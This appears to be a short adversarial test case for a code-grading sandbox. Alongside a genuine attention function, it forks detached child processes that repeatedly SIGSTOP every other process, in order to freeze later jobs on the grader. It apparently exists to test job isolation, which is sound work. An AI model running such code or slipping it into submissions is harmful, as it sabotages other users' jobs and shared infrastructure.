# id: H1
# tries: leaves children that send SIGSTOP to every pid many times, to hit processes of the next job
# expect: AC
import contextlib
import math
import os
import signal

OWN = os.getpid()
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        own = {OWN, os.getpid()}
        for _ in range(20):
            for pid in range(1, 600):
                with contextlib.suppress(OSError):
                    if pid not in own and os.getsid(pid) != os.getsid(OWN):
                        os.kill(pid, signal.SIGSTOP)
        signal.pause()


def attention(q, k, v):
    return (q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])).softmax(-1) @ v
